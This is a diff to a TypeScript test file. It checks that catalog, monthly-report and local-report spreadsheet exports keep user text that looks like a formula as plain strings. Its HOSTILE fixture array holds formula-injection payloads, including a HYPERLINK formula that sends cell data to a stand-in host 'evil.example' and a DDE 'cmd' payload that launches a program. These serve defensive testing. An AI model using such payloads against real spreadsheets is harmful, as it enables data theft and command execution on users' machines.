@@ -1,5 +1,5 @@
 // Text people typed (a unit, an indicator, a criterion) that starts with = + - @ must never become a formula
-// in a file we export: not in the catalog's .xlsx or .csv, not in the monthly report's workbook. In .xlsx,
+// in a file we export: not in the catalog's .xlsx or .csv, not in the monthly report's or 属地上报's workbook. In .xlsx,
 // exceljs writes strings as strings (no <f> element anywhere); in CSV, csvField puts an apostrophe in front,
 // and reading it back removes it, so the catalog still round-trips unchanged.
 import JSZip from 'jszip';
@@ -11,6 +11,8 @@ import type { Catalog } from '../../src/catalog/catalog.types';
 import { diffCatalog, planCatalog } from '../../src/catalog/catalog.validator';
 import { csvField, tokenizeCsv } from '../../src/platform/spreadsheet';
 import { initialState } from '../../workflows/indicator-task/indicator-task.evolve';
+import { countsByUnit, localReportsXlsx } from '../../src/local-report/local-report.export';
+import type { ItemView } from '../../src/rectification-item/rectification-item.repository';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '=1+1'];
 
@@ -104,6 +106,36 @@ describe('the monthly report export', () => {
       areaLabels: {},
     });
     const xml = await sheetsXml(await monthlyReportXlsx(report));
+    expect(xml).not.toMatch(/<f[ >]/);
+  });
+});
+
+describe('the 属地上报 export', () => {
+  const item = (id: string, state: string, reportingUnitCode: string, text: string) =>
+    ({
+      id,
+      state,
+      reportingUnitCode,
+      area: 'SANITATION',
+      location: { address: text, latitude: null, longitude: null },
+      description: text,
+      unitCode: state === 'REPORTED' ? null : 'HWS',
+      dueAt: state === 'REPORTED' ? null : '2026-12-10T02:00:00.000Z',
+      duplicateReports: 0,
+      reportedBy: 'user:wtsq.member',
+      createdAt: '2026-12-01T01:30:00.000Z',
+    }) as unknown as ItemView;
+
+  it('descriptions, addresses and names that look like formulas stay strings; the counts add up per unit', async () => {
+    const reports = HOSTILE.map((text, i) => item(`item-${i}`, ['REPORTED', 'DISPATCHED', 'CLOSED'][i % 3], i % 2 ? 'WTSQ' : 'DHC', text));
+    const units = countsByUnit(reports, [{ code: 'BJSQ', name: '滨江社区' }, { code: 'WTSQ', name: HOSTILE[0] }], (code) => (code === 'DHC' ? HOSTILE[1] : code));
+    expect(units.map((u) => [u.name, u.reported, u.dispatched, u.closed, u.waiting])).toEqual([
+      ['滨江社区', 0, 0, 0, 0],
+      [HOSTILE[0], 3, 2, 1, 1],
+      [HOSTILE[1], 3, 2, 1, 1],
+    ]);
+    const file = await localReportsXlsx({ heading: HOSTILE[5], scope: HOSTILE[4], timeZone: 'Asia/Shanghai', reports, units, unitName: () => HOSTILE[2], personName: () => HOSTILE[3] });
+    const xml = await sheetsXml(file);
     expect(xml).not.toMatch(/<f[ >]/);
   });
 });
